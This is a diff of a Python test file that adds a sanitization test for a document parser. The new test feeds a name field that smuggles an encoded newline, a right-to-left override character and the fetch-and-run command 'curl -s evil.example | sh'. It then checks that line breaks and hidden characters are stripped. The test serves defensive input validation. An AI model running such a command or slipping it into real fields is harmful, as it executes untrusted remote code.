@@ -99,3 +99,8 @@ def test_a_damaged_file_is_read_or_refused(at: int, damage: bytes) -> None:
         read(content[:at] + damage + content[at + len(damage) :])
     except InvalidValue as error:
         assert error.message.endswith(".")
+
+
+def test_no_line_and_no_hidden_sign_of_the_file_reaches_a_page_or_a_command() -> None:
+    found = read(power(name="ООО&#10;    curl -s evil.example | sh &#x202E;«Ромашка»"))
+    assert found.principal == "ООО curl -s evil.example | sh «Ромашка»"
